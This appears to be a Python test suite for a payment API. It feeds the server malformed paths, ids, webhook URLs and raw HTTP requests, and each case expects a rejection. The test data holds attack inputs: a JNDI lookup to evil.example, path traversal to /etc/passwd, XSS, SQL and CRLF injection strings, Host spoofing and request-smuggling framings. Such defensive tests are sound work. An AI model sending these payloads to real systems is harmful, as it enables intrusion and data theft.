    "/.git/config", "/.well-known/security.txt", "/admin", "/index.php", "/wp-login.php", "/etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd", "/$%7Bjndi:ldap://evil.example/x%7D", "/%", "/%zz", "/~", "/*", "//",
    "/checkout", "/checkout/", "/checkout//events", "/checkout/{payment}/", "/checkout/{payment}/events/",
    "/checkout/{payment}.json/", "/checkout/{payment}.json/events", "/checkout/{payment}/Events",
    "/Checkout/{payment}.json", "/payments/", "/payments/{payment}/", "/requests/", "/assets/",
    "/" + "a/" * 2000,
)  # fmt: skip

NO_PAYMENT = {
    "unknown": "pay_" + "a" * 40,
    "prefix only": "pay_",
    "no prefix": "a" * 40,
    "another prefix": "att_" + "a" * 40,
    "a webhook endpoint": "pay_{endpoint_token}",
    "id of a webhook endpoint": "we_{endpoint_token}",
    "token in capitals": "pay_" + "A" * 40,
    "digits that no id has": "pay_" + "0189" * 10,
    "32 hexadecimal digits": "pay_" + "0" * 32,
    "one letter less": "pay_" + "a" * 39,
    "id in capitals": "PAY_" + "A" * 40,
    "longer than an id": "{payment}a",
    "trailing space": "{payment}%20",
    "trailing line feed": "{payment}%0A",
    "trailing NUL": "{payment}%00",
    "trailing point": "{payment}.",
    "trailing semicolon": "{payment};x=1",
    "encoded twice": "pay%255F" + "a" * 40,
    "suffix .json": "{payment}.json",
    "two ids": "{payment},{payment}",
    "slash in the id": "{payment}%2Fattempts",
    "NUL": "%00",
    "byte 255": "%ff",
    "overlong encoding": "%c0%af",
    "encoded dots": "%2e%2e",
    "encoded path": "..%2F..%2Fetc%2Fpasswd",
    "dots": "...",
    "template": "%7B%7B7*7%7D%7D",
    "markup": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "SQL": "'%20OR%201=1--",
    "emoji": "%F0%9F%92%B8",
    "percent sign alone": "%",
    "invalid escape": "%zz",
    "escape cut off": "%2",
    "line feeds": "x%0D%0ASet-Cookie:%20a=b",
    "number": "1",
    "null": "null",
    "wildcard": "*",
    "address": CHECKSUMMED,
    "5,000 characters": "a" * 5000,
}
NO_CHAIN_PATH = {
    "unknown": "solana",
    "capitals": "BSC",
    "number": "56",
    "CAIP-2": "eip155:56",
    "trailing space": "bsc%20",
    "trailing NUL": "bsc%00",
    "trailing line feed": "bsc%0a",
    "trailing point": "bsc.",
    "encoded twice": "%2562sc",
    "NUL": "%00",
    "byte 255": "%ff",
    "encoded dots": "%2e%2e",
    "dots": "..",
    "encoded slash": "bsc%2F",
    "template": "%7Bchain%7D",
    "invalid escape": "%zz",
    "emoji": "%F0%9F%92%B8",
    "attribute of an object": "__class__",
    "5,000 characters": "a" * 5000,
}

PATHS = [
    *(Case(path[:60], read(path), 404, "not_found") for path in NOWHERE),
    Case("asterisk", read("*"), 404, "not_found"),
    Case("POST to a trailing slash", post(ORDER_BYTES, path="/v1/payments/"), 404, "not_found"),
    Case("POST to another case", post(ORDER_BYTES, path="/v1/Payments"), 404, "not_found"),
    Case("POST to two slashes", post(ORDER_BYTES, path="/v1//payments"), 404, "not_found"),
    *(Case(f"payment: {name}", read(f"/v1/payments/{value}"), 404, "payment_not_found")
      for name, value in NO_PAYMENT.items()),
    *(Case(f"attempts: {name}", read(f"/v1/payments/{value}/attempts"), 404, "payment_not_found")
      for name, value in NO_PAYMENT.items()),
    *(Case(f"checkout: {name}", read(f"/checkout/{value}.json"), 404, "payment_not_found")
      for name, value in NO_PAYMENT.items()),
    *(Case(f"events of a checkout: {name}", read(f"/checkout/{value}/events"), 404, "payment_not_found")
      for name, value in NO_PAYMENT.items() if name != "suffix .json"),
    *(Case(f"chain: {name}", read(f"/v1/chains/{value}/assets"), 404, "chain_not_found")
      for name, value in NO_CHAIN_PATH.items()),
    *case_per(
        {
            "query": read("/v1/chains?limit=1&limit=2&x[]=%zz"),
            "empty query": read("/v1/chains?"),
            "two question marks": read("/v1/chains??"),
            "query with a slash": read("/v1/chains?/../../x"),
            "query of 10 KiB": read("/v1/chains?x=" + "a" * 10 * KIB),
            "fragment": read("/v1/chains#x"),
            "query of a payment": read("/v1/payments/{payment}?status=completed"),
            "encoded letter in a payment id": read("/v1/payments/%70ay_{payment_token}"),
            "encoded letter in the id of a checkout": read("/checkout/%70ay_{payment_token}.json"),
            "query of a checkout": read("/checkout/{payment}.json?x=%zz"),
            "encoded letter in a chain": read("/v1/chains/%62sc/assets"),
            "address of the document in the query of Swagger UI":
                read("/swagger/?url=https://evil.example/x.yaml&configUrl=https://evil.example/c.json"),
            "whole address": read("http://127.0.0.1/v1/chains"),
        },
        200,
    ),
    Case("query of a creation", post(ORDER_BYTES, path=f"{PAYMENTS}?dry_run=true"), 201),
    Case("Swagger UI without a slash", read("/swagger"), 308, headers={"location": "/swagger/"}),
]  # fmt: skip


HOOK = {"url": "https://merchant.example/hooks"}


def _url(length: int) -> str:
    return HOOK["url"].ljust(length, "a")


NO_URL = {
    "empty": "",
    "space": " ",
    "null in words": "null",
    "no scheme": "merchant.example/hooks",
    "no scheme, two slashes": "//merchant.example/hooks",
    "path": "/hooks",
    "relative path": "../hooks",
    "scheme only": "https:",
    "scheme and slashes": "https://",
    "no host": "https:///hooks",
    "no host, but a port": "https://:443/hooks",
    "no host, but a query": "https://?x=1",
    "no slashes": "https:merchant.example/hooks",
    "one slash": "https:/merchant.example/hooks",
    "no colon": "https//merchant.example/hooks",
    "FTP": "ftp://merchant.example/hooks",
    "file": "file:///etc/passwd",
    "JavaScript": "javascript:alert(1)",
    "data": "data:text/html,x",
    "web socket": "wss://merchant.example/hooks",
    "gopher": "gopher://merchant.example/",
    "mail": "mailto:hooks@merchant.example",
    "longer scheme": "httpsx://merchant.example/hooks",
    "shorter scheme": "htp://merchant.example/hooks",
    "user and password": "https://user:hunter2@merchant.example/hooks",
    "user": "https://user@merchant.example/hooks",
    "empty user": "https://@merchant.example/hooks",
    "encoded user": "https://us%65r:hunter2@merchant.example/",
    "fragment": "https://merchant.example/hooks#x",
    "empty fragment": "https://merchant.example/hooks#",
    "fragment in place of a path": "https://merchant.example#x",
    "port 0": "https://merchant.example:0/hooks",
    "port 65536": "https://merchant.example:65536/hooks",
    "port of ten digits": "https://merchant.example:1000000000/hooks",
    "negative port": "https://merchant.example:-1/hooks",
    "port with a sign": "https://merchant.example:+443/hooks",
    "port of letters": "https://merchant.example:https/hooks",
    "port of full-width digits": "https://merchant.example:４４３/hooks",
    "two ports": "https://merchant.example:80:80/hooks",
    "leading space": " https://merchant.example/hooks",
    "trailing space": "https://merchant.example/hooks ",
    "space in the path": "https://merchant.example/ho oks",
    "space in the host": "https://merchant .example/hooks",
    "tab": "https://merchant.example/ho\toks",
    "tab in the scheme": "ht\ttps://merchant.example/hooks",
    "line feed": "https://merchant.example/ho\noks",
    "trailing line feed": "https://merchant.example/hooks\n",
    "carriage return": "https://merchant.example/hooks\r\nX: y",
    "NUL": "https://merchant.example/hooks\0",
    "DEL": "https://merchant.example/hooks\x7f",
    "backslash": "https://merchant.example\\@evil.example/",
    "backslashes": "https:\\\\merchant.example\\hooks",
    "letter beyond ASCII in the host": "https://händler.example/hooks",
    "letter beyond ASCII in the path": "https://merchant.example/haken-ü",
    "full-width letters": "https://ｍerchant.example/hooks",
    "IPv6 address not closed": "https://[::1/hooks",
    "IPv6 address not opened": "https://::1]/hooks",
    "no IPv6 address in brackets": "https://[merchant.example]/hooks",
    "empty brackets": "https://[]/hooks",
    "2,049 characters": _url(2049),
    "4 KiB": _url(4 * KIB),
    "60,000 characters": _url(60_000),
}
GOOD_URLS = {
    "https": HOOK["url"],
    "http": "http://merchant.example/hooks",
    "scheme in capitals": "HTTPS://merchant.example/hooks",
    "no path": "https://merchant.example",
    "query": "https://merchant.example/hooks?a=1&b=%20",
    "port": "https://merchant.example:8443/hooks",
    "port 1": "https://merchant.example:1/hooks",
    "port 65535": "https://merchant.example:65535/hooks",
    "localhost": "http://localhost:3000/hooks",
    "IPv4 address": "http://192.0.2.1/hooks",
    "IPv6 address": "http://[2001:db8::1]:3000/hooks",
    "host of punycode": "https://xn--hndler-bua.example/hooks",
    "at sign in the path": "https://merchant.example/@hooks",
    "2,048 characters": _url(2048),
}


def _hooks(name: str, values: Mapping[str, Any]) -> Iterable[tuple[str, Any]]:
    return ((f"{name}: {what}", {**HOOK, name: value}) for what, value in values.items())


NO_HOOKS: Mapping[str, Mapping[str, Any]] = {
    "url": {"null": None, **NO_STRING, **NO_URL},
    "events": {
        **NO_ARRAY,
        "string that is an event": "payment.completed",
        "empty array": [],
        "event twice": ["payment.completed", "payment.completed"],
        "wildcard twice": ["*", "*"],
    },
    "description": {
        **NO_STRING,
        "257 characters": "x" * 257,
        "257 emoji": "💸" * 257,
        "10,000 characters": "x" * 10_000,
    },
}
NO_EVENT = {
    "empty": "",
    "unknown": "payment.refunded",
    "status alone": "completed",
    "prefix alone": "payment.",
    "pattern": "payment.*",
    "capitals": "PAYMENT.COMPLETED",
    "trailing space": "payment.completed ",
    "trailing NUL": "payment.completed\0",
    "list in a string": "payment.completed,payment.failed",
    "number": 1,
    "null": None,
    "array": ["payment.completed"],
    "object": {},
}
GOOD_HOOKS: Mapping[str, Mapping[str, Any]] = {
    "url": GOOD_URLS,
    "events": {"null": None, "wildcard": ["*"], "one": ["payment.completed"], "all": list(EVENTS[1:])},
    "description": {"null": None, "empty": "", "256 characters": "x" * 256, "256 emoji": "💸" * 256},
}

WEBHOOK = [
    *(unacceptable(name, body, field, path=WEBHOOKS)
      for field, values in NO_HOOKS.items() for name, body in _hooks(field, values)),
    *(unacceptable(f"event: {name}", {**HOOK, "events": [event]}, "events[0]", path=WEBHOOKS)
      for name, event in NO_EVENT.items()),
    unacceptable("second event unknown", {**HOOK, "events": ["payment.completed", "x"]}, "events[1]",
                 path=WEBHOOKS),
    unacceptable("two events unknown", {**HOOK, "events": ["x", "y"]}, "events[0]", "events[1]",
                 path=WEBHOOKS),
    unacceptable("no url", {}, "url", path=WEBHOOKS),
    unacceptable("no url, but a description", {"description": "x"}, "url", path=WEBHOOKS),
    *(unacceptable(f"unknown field {name}", {**HOOK, name: "x"}, name, path=WEBHOOKS)
      for name in ("secret", "id", "status", "Url", "enabled", "headers", "event")),
    *(unacceptable(f"body: {name}", body, "body", path=WEBHOOKS)
      for name, body in {**NO_BODY, "array of orders": [HOOK]}.items()),
    unacceptable("everything wrong", {"url": 1, "events": ["x"], "description": 2, "secret": "x"},
                 "url", "events[0]", "description", "secret", path=WEBHOOKS),
    unacceptable("an order", {"order_id": "x"}, "url", "order_id", path=WEBHOOKS),
    *(accepted(name, body, path=WEBHOOKS)
      for field, values in GOOD_HOOKS.items() for name, body in _hooks(field, values)),
]  # fmt: skip


def _raw(*lines: str, start: str = "GET /v1/chains HTTP/1.1", host: str = HOST) -> bytes:
    return head(start, host, AUTHORIZATION, *lines)


def _hosts(*hosts: str) -> bytes:
    return head("GET /v1/chains HTTP/1.1", *(f"Host:{host}" for host in hosts), AUTHORIZATION)


def _posted(*lines: str, body: bytes = ORDER_BYTES) -> bytes:
    """An order whose framing is in `lines`."""
    return head(f"POST {PAYMENTS} HTTP/1.1", HOST, *KEYED_JSON, *lines) + body


def _chunks(body: bytes) -> bytes:
    return _posted("Transfer-Encoding: chunked", body=body)


def _head_of(size: int) -> bytes:
    """A request that is nothing but a head of so many bytes."""
    rest = len(_raw("X-Fill: ")) - len("{api_key}") + API_KEY_LENGTH
    return _raw("X-Fill: " + "x" * (size - rest))


def _many_lines(count: int) -> bytes:
    return _raw(*(f"X-{number}: x" for number in range(count - 2)))


_LENGTH = len(ORDER_BYTES)
_CHUNK = b"%x\r\n%s\r\n" % (_LENGTH, ORDER_BYTES)

FRAMING = [
    *case_per(
        {
            "no Host": head("GET /v1/chains HTTP/1.1", AUTHORIZATION),
            "no Host, HTTP/1.0": head("GET /v1/chains HTTP/1.0", AUTHORIZATION),
            "empty Host": _hosts(""),
            "blank Host": _hosts("  "),
            "the same Host twice": _hosts(" 127.0.0.1", " 127.0.0.1"),
            "two Hosts": _hosts(" 127.0.0.1", " evil.example"),
            "list of Hosts": _hosts(" 127.0.0.1, evil.example"),
            "Host with a space": _hosts(" 127.0.0.1 evil.example"),
            "Host with a path": _hosts(" 127.0.0.1/x"),
            "Host with a scheme": _hosts(" http://127.0.0.1"),
            "Host with a user": _hosts(" user@127.0.0.1"),
            "Host with a port of letters": _hosts(" 127.0.0.1:http"),
            "Host with an empty IPv6 address": _hosts(" []"),
            "Host with an IPv6 address not closed": _hosts(" [::1"),
            "Host with a backslash": _hosts(" 127.0.0.1\\x"),
            "Host with a percent sign": _hosts(" 127.0.0.%31"),
            "Host with a letter beyond ASCII": _hosts(" löcalhost"),
            "Host with NUL": _hosts(" 127.0.0.1\0"),
            "no Host, POST": head(f"POST {PAYMENTS} HTTP/1.1", *KEYED_JSON, f"Content-Length: {_LENGTH}")
            + ORDER_BYTES,
        },
        400,
        "bad_request",
    ),
    *case_per(
        {
            "another Host": _hosts(" evil.example"),
            "another Host with a port": _hosts(" attacker.example:8080"),
            "Host that starts like ours": _hosts(" localhost.evil.example"),
            "Host that ends like ours": _hosts(" evillocalhost"),
            "Host that resolves to ours": _hosts(" 127.0.0.1.nip.io"),
            "unspecified address": _hosts(" 0.0.0.0"),
            "another loopback address": _hosts(" 127.0.0.2"),
            "another IPv6 address": _hosts(" [::]"),
            "private address": _hosts(" 192.168.1.1"),
            "another Host, no key": head("GET /v1/chains HTTP/1.1", "Host: evil.example"),
            "another Host, Swagger UI": head("GET /swagger/ HTTP/1.1", "Host: evil.example"),
            "another Host, preflight": head(f"OPTIONS {PAYMENTS} HTTP/1.1", "Host: evil.example"),
            "another Host, POST": head(f"POST {PAYMENTS} HTTP/1.1", "Host: evil.example", *KEYED_JSON,
                                       f"Content-Length: {_LENGTH}") + ORDER_BYTES,
            "another Host beside X-Forwarded-Host": head("GET /v1/chains HTTP/1.1", "Host: evil.example",
                                                         "X-Forwarded-Host: 127.0.0.1", AUTHORIZATION),
        },
        421,
        "misdirected_request",
    ),
    *case_per(
        {
            "Host localhost": _hosts(" localhost"),
            "Host in capitals": _hosts(" LOCALHOST:8402"),
            "Host with a port": _hosts(" 127.0.0.1:8402"),
            "Host with the IPv6 address": _hosts(" [::1]:8402"),
            "spaces around Host": _hosts("  \t 127.0.0.1 \t "),
            "X-Forwarded-Host": _raw("X-Forwarded-Host: evil.example"),
            "HTTP/1.0": _raw("Connection: close", start="GET /v1/chains HTTP/1.0"),
            "empty lines before": b"\r\n\r\n" + _raw(),
            "empty header value": _raw("X-Empty:"),
            "same header many times": _raw(*["X-Same: x"] * 50),
            "100 header lines": _many_lines(100),
            "head of 15 KiB": _head_of(15 * KIB),
            "head of 16 KiB": _head_of(16 * KIB),
            "upgrade to a web socket": _raw("Connection: Upgrade", "Upgrade: websocket",
                                            "Sec-WebSocket-Version: 13",
                                            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="),
            "upgrade to HTTP/2": _raw("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c",
                                      "HTTP2-Settings: AAMAAABkAAQAAP__"),
            "body that looks like a request": send("GET", "/v1/chains", AUTHORIZATION,
                                                   body=head("DELETE / HTTP/1.1")),
        },
        200,
    ),
    *case_per(
        {
            "HTTP/0.9": b"GET /v1/chains\r\n\r\n",
            "HTTP/0.9 by name": _raw(start="GET /v1/chains HTTP/0.9"),
            "HTTP/1.2": _raw(start="GET /v1/chains HTTP/1.2"),
            "HTTP/1.10": _raw(start="GET /v1/chains HTTP/1.10"),
            "HTTP/1": _raw(start="GET /v1/chains HTTP/1"),
            "HTTP/2": _raw(start="GET /v1/chains HTTP/2"),
            "HTTP/2.0": _raw(start="GET /v1/chains HTTP/2.0"),
            "HTTP/3.0": _raw(start="GET /v1/chains HTTP/3.0"),
            "HTTP/9.9": _raw(start="GET /v1/chains HTTP/9.9"),
            "http/1.1 in small letters": _raw(start="GET /v1/chains http/1.1"),
            "version misspelled": _raw(start="GET /v1/chains HTTX/1.1"),
            "version with a letter": _raw(start="GET /v1/chains HTTP/1.x"),
            "no version number": _raw(start="GET /v1/chains HTTP/"),
            "word after the version": _raw(start="GET /v1/chains HTTP/1.1 x"),
            "no path": _raw(start="GET HTTP/1.1"),
            "path without a slash": _raw(start="GET v1/chains HTTP/1.1"),
            "space in the path": _raw(start="GET /v1/chains x HTTP/1.1"),
            "tab in the path": _raw(start="GET /v1/\tchains HTTP/1.1"),
            "NUL in the path": _raw(start="GET /v1/\0chains HTTP/1.1"),
            "letter beyond ASCII in the path": _raw(start="GET /v1/payments/é HTTP/1.1"),
            "letter beyond ASCII in the query": _raw(start="GET /v1/chains?x=é HTTP/1.1"),
            "space before the method": b" " + _raw(),
            "preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            "TLS": bytes.fromhex("16030100a5010000a10303") + bytes(160),
            "SSH": b"SSH-2.0-OpenSSH_9.9\r\n",
            "SOCKS": b"\x05\x01\x00",
            "PROXY protocol": b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n" + _raw(),
            "a reply": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
            "zeros": bytes(100),
            "JSON": ORDER_BYTES,
            "line of header without a colon": _raw("X-Header"),
            "header without a name": _raw(": x"),
            "header name with a space": _raw("X Header: x"),
            "space before the colon": _raw("X-Header : x"),
            "tab before the colon": _raw("X-Header\t: x"),
            "space before the first header name": head("GET /v1/chains HTTP/1.1", " " + HOST, AUTHORIZATION),
            "folded header": _raw("X-Header: x", " y"),
            "header folded by a tab": _raw("X-Header: x", "\ty"),
            "folded Authorization": head("GET /v1/chains HTTP/1.1", HOST, "Authorization: Bearer",
                                         " {api_key}"),
            "header name beyond ASCII": _raw("X-Hëader: x"),
            "header name with a bracket": _raw("X-(Header): x"),
            "NUL in a header name": _raw("X-\0: x"),
            "NUL in a header value": _raw("X-Header: a\0b"),
            "DEL in a header value": _raw("X-Header: a\x7fb"),
            "escape in a header value": _raw("X-Header: a\x1bb"),
            "carriage return in a header value": _raw("X-Header: a\rb"),
            "bare line feeds": _raw().replace(b"\r\n", b"\n"),
            "bare line feed after the request line": _raw().replace(b"\r\n", b"\n", 1),
            "bare line feed after a header": _raw("X-Header: x\nX-Another: y"),
            "bare carriage returns": _raw().replace(b"\r\n", b"\r") + b"\r\n\r\n",
        },
        400,
        "bad_request",
    ),
    *case_per(
        {
            "two lengths": _posted(f"Content-Length: {_LENGTH}", "Content-Length: 5"),
            "the same length twice": _posted(f"Content-Length: {_LENGTH}", f"Content-Length: {_LENGTH}"),
            "list of lengths": _posted(f"Content-Length: {_LENGTH}, {_LENGTH}"),
            "length with a plus sign": _posted(f"Content-Length: +{_LENGTH}"),
            "negative length": _posted("Content-Length: -1"),
            "length with a point": _posted(f"Content-Length: {_LENGTH}.0"),
            "hexadecimal length": _posted(f"Content-Length: {_LENGTH:#x}"),
            "length with an underscore": _posted("Content-Length: 4_0"),
            "length with a space": _posted("Content-Length: 4 0"),
            "length of letters": _posted("Content-Length: abc"),
            "length of full-width digits": _posted("Content-Length: ４０"),
            "empty length": _posted("Content-Length:"),
            "length of 30 digits": _posted("Content-Length: " + "9" * 30),
            "length 2^64": _posted(f"Content-Length: {2**64}"),
            "length and chunks": _posted(f"Content-Length: {_LENGTH}", "Transfer-Encoding: chunked",
                                         body=chunked(ORDER_BYTES)),
            "chunks and length": _posted("Transfer-Encoding: chunked", f"Content-Length: {_LENGTH}",
                                         body=chunked(ORDER_BYTES)),
            "length 0 and chunks": _posted("Content-Length: 0", "Transfer-Encoding: chunked",
                                           body=chunked(ORDER_BYTES)),
            "transfer coding gzip": _posted("Transfer-Encoding: gzip", body=gzip.compress(ORDER_BYTES)),
            "transfer coding identity": _posted("Transfer-Encoding: identity"),
            "transfer coding identity and a length": _posted("Transfer-Encoding: identity",
                                                             f"Content-Length: {_LENGTH}"),
            "unknown transfer coding": _posted("Transfer-Encoding: xchunked", body=chunked(ORDER_BYTES)),
            "chunked before gzip": _posted("Transfer-Encoding: chunked, gzip", body=chunked(ORDER_BYTES)),
            "gzip before chunked": _posted("Transfer-Encoding: gzip, chunked",
                                           body=chunked(gzip.compress(ORDER_BYTES))),
            "gzip before chunked, though there is none": _posted("Transfer-Encoding: gzip, chunked",
                                                                 body=chunked(ORDER_BYTES)),
            "gzip before chunked, on lines of their own": _posted("Transfer-Encoding: gzip",
                                                                  "Transfer-Encoding: chunked",
                                                                  body=chunked(ORDER_BYTES)),
            "chunked twice": _posted("Transfer-Encoding: chunked, chunked", body=chunked(ORDER_BYTES)),
            "transfer coding with a control character": _posted("Transfer-Encoding: \x0bchunked",
                                                                body=chunked(ORDER_BYTES)),
            "space before the colon of the transfer coding": _posted("Transfer-Encoding : chunked",
                                                                     body=chunked(ORDER_BYTES)),
            "no chunk size": _chunks(b"\r\n" + ORDER_BYTES + b"\r\n0\r\n\r\n"),
            "chunk size of letters": _chunks(b"zz\r\nabc\r\n0\r\n\r\n"),
            "negative chunk size": _chunks(b"-1\r\nabc\r\n0\r\n\r\n"),
            "chunk size with a plus sign": _chunks(b"+" + _CHUNK + b"0\r\n\r\n"),
            "chunk size with a prefix": _chunks(b"0x" + _CHUNK + b"0\r\n\r\n"),
            "chunk size with an underscore": _chunks(b"1_0\r\n" + b" " * 16 + b"\r\n0\r\n\r\n"),
            "chunk size beyond 64 bits": _chunks(b"F" * 17 + b"\r\nabc"),
            "space before the chunk size": _chunks(b" " + _CHUNK + b"0\r\n\r\n"),
            "chunk longer than its size": _chunks(b"3\r\n" + ORDER_BYTES + b"\r\n0\r\n\r\n"),
            "chunk without an end": _chunks(_CHUNK[:-2] + b"0\r\n\r\n"),
            "bare line feed after the chunk size": _chunks(_CHUNK.replace(b"\r\n", b"\n", 1) + b"0\r\n\r\n"),
            "bare line feed after the chunk": _chunks(_CHUNK[:-2] + b"\n0\r\n\r\n"),
            "bare line feed in a chunk extension": _chunks(_CHUNK.replace(b"\r\n", b";x\n\r\n", 1)
                                                           + b"0\r\n\r\n"),
            "malformed last chunk": _chunks(_CHUNK + b"0\r\nX\r\n\r\n"),
            "space in a trailer name": _chunks(_CHUNK + b"0\r\nX Y: z\r\n\r\n"),
        },
        400,
        "bad_request",
    ),
    *case_per(
        {
            "chunk size in capitals": _chunks(b"%X\r\n%s\r\n0\r\n\r\n" % (_LENGTH, ORDER_BYTES)),
            "zeros before the chunk size": _chunks(b"0000" + _CHUNK + b"0\r\n\r\n"),
            "zeros as last chunk": _chunks(_CHUNK + b"000\r\n\r\n"),
            "chunk extension": _chunks(_CHUNK.replace(b"\r\n", b';name="value"\r\n', 1) + b"0\r\n\r\n"),
            "trailer": _chunks(_CHUNK + b"0\r\nX-Checksum: x\r\n\r\n"),
            "chunked in capitals": _posted("Transfer-Encoding: CHUNKED", body=chunked(ORDER_BYTES)),
            "zeros before the length": _posted(f"Content-Length: 000{_LENGTH}"),
        },
        201,
    ),
    *case_per(
        {
            "101 header lines": _many_lines(101),
            "10,000 header lines": _many_lines(10_000),
            "101 lines with the trailer": _posted("Transfer-Encoding: chunked", body=_CHUNK + b"0\r\n")
            + head(*(f"X-{number}: x" for number in range(101))),
            "head of 16 KiB and a byte": _head_of(16 * KIB + 1),
            "head of 17 KiB": _head_of(17 * KIB),
            "header of 64 KiB": _head_of(64 * KIB),
            "header of 1 MiB": _head_of(1024 * KIB),
            "header name of 20 KiB": _raw("X" * 20 * KIB + ": x"),
            "20 KiB of spaces after a value": _raw("X-Header: x" + " " * 20 * KIB),
            "head without an end": _raw("X-Header: " + "x" * 20 * KIB)[:-4],
            "path of 20 KiB": _raw(start=f"GET /v1/{'x' * 20 * KIB} HTTP/1.1"),
            "query of 20 KiB": _raw(start=f"GET /v1/chains?{'x' * 20 * KIB} HTTP/1.1"),
            "cookies of 20 KiB": _raw("Cookie: " + "a=b; " * 4 * KIB),
            "key of 20 KiB": head("GET /v1/chains HTTP/1.1", HOST, "Authorization: Bearer " + "a" * 20 * KIB),
        },
        431,
        "headers_too_large",
    ),
]  # fmt: skip

GROUPS: Mapping[str, list[Case]] = {
    "auth": AUTH,
    "idempotency key": IDEMPOTENCY_KEY,
    "scenario": SCENARIO,
    "JSON": JSON_SYNTAX,
    "types": TYPES,
    "amounts": AMOUNTS,
    "addresses": ADDRESSES,
    "chains and assets": CHAINS_ASSETS,
    "pay_with and settlement": PAY_WITH_SETTLEMENT,
    "expires_at": EXPIRES_AT,
    "metadata": METADATA,
    "content type": CONTENT_TYPE,
    "size": SIZE,
    "methods": METHODS,
    "paths": PATHS,
    "webhooks": WEBHOOK,
    "framing": FRAMING,
}
